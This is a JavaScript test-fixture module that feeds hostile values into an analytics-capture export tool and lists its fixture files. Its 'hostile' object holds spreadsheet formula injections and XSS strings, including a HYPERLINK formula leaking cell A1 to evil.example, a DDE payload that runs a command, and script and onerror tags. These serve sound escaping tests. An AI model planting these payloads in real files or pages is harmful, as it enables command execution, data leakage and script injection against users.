// Captures that are exported for others to read.

import { gzipSync } from "node:zlib";

import { javaHash } from "./independent.mjs";

/** Values that mean something to one of the readers, each under a name that says to which. */
export const hostile = {
  comma: "one, two",
  semicolon: "one; two\tthree",
  quotes: "say \"hi\" and \"\"hi\"\"",
  "only a quote": "\"",
  lines: "one\r\ntwo\nthree\rfour\r\n",
  formula: "=HYPERLINK(\"https://evil.example/\"&A1,\"open\")",
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3",
  at: "@SUM(A1:A9)",
  nothing: "NULL",
  "a name, with \"signs\"": "x",
  "a name\nin lines": "x",
  "<img src=x onerror=alert(1)>": "x",
  "a | pipe ` and code": "a | pipe ` and ``code``",
  nul: "before\u0000after",
  controls: "\u0001\b\f\u000b\u001b[31m\u007f\u0085",
  turned: "\u202eabc\u202c \u2066x\u2069 \u200b\ufeff\u2028\u2029",
  emoji: "crème 👩🏽‍🍳 麻婆豆腐 🥘 مرحبا",
  script: "<script>alert(1)</script><img src=https://evil.example/p.png onerror=alert(1)>",
  ends: "</code></td></tr></table></main></style></title><!-- --><base href=https://evil.example/>",
  attributes: "\" onclick=\"alert(1)\" style='background:url(https://evil.example/)'",
  entities: "&lt;b&gt; &amp;amp; &#60;",
  pictures: "![x](https://evil.example/p.png) [x](javascript:alert(1)) <https://evil.example/> www.evil.example",
  headings: "# one\n\n## two\n***\n- list\n1. list\n> quote\n```\nfence\n```\n| a | b |\n|---|---|",
  backslashes: "\\ \\\\ \\n \\u0000 C:\\",
  spaces: "  both ends  ",
  empty: "",
  long: "long ".repeat(1_500),
  address: "https://evil.example/a?b=%3Cscript%3E&c=%22#d",
  numbers: [0, -0.5, 9007199254740993, 1e21],
  nested: { list: ["a,b", { "deep \"key\"": null }], yes: true, none: [], nobody: {} },
};

/** An upload of such values, in names of events and headers too. */
export function hostileUpload() {
  const event = (name, properties) => ({
    _track_id: 7, time: 1588788844318, type: "track", distinct_id: "5b0e7a1c-3d92-4f86-a7c4-1e9d60b8f235", event: name,
    lib: { $lib: "Android", $lib_version: "3.2.10" }, properties: { $device_id: "c4b1e07d93a52f68", ...properties },
  });
  const names = ["search", "=1+1,\"x\"\n<b>", "<iframe src=https://evil.example/></iframe>", "| `x` | ![](https://evil.example/p.png)"];
  const events = names.map((name, index) => event(name, Object.fromEntries(Object.entries(hostile).slice(index * 3))));
  // Written by hand, since JavaScript would round the number.
  const text = JSON.stringify(events).replaceAll("9007199254740992", "9007199254740993");
  const payload = gzipSync(Buffer.from(text)).toString("base64");
  return [
    "POST /sa?project=x&note=%3Cb%3E%2C%221%22 HTTP/1.1", "Host: sa.api.intl.miui.com", "User-Agent: <script>alert(1)</script> =1+1, \"x\"",
    "Content-Type: application/x-www-form-urlencoded", "Cookie: a=<i>; b=2", "", `crc=${javaHash(payload)}&gzip=1&data_list=${encodeURIComponent(payload)}`,
  ].join("\r\n");
}

/** Fixtures whose events are all there, so that everything that is exported of them can be compared. */
export const whole = [
  "http-crlf", "http-many-headers", "json-array", "json-envelope", "json-lines", "json-one-event", "bare-base64", "bare-percent-value", "web-get", "url-image-get",
  "web-batch", "server-sdk-data-gzip", "miniprogram-gzip", "profile-set", "sign-up", "duplicate-keys", "large-integer", "lone-surrogate", "article-bullets",
  "mint-like-android-gzip1", "dictionary-xiaomi-browser", "unknown-browser-events",
].map((name) => [`sensors-analytics/${name}`, `tests/fixtures/sensors-analytics/${name}/paste.txt`]);
export const samples = ["mint-browser", "signing-in", "walk", "web-page"].map((name) => [name, `www/samples/${name}.txt`]);
/** What is in them is damaged, so that only a masked copy is what others can read. */
export const damaged = [
  ["damaged", "www/samples/damaged.txt"],
  ...["gzip-checksum-wrong", "damaged-plus-as-space", "lines-wrapped", "alphabet-url-safe", "log-line"].map((name) => [
    `sensors-analytics/${name}`, `tests/fixtures/sensors-analytics/${name}/paste.txt`,
  ]),
];
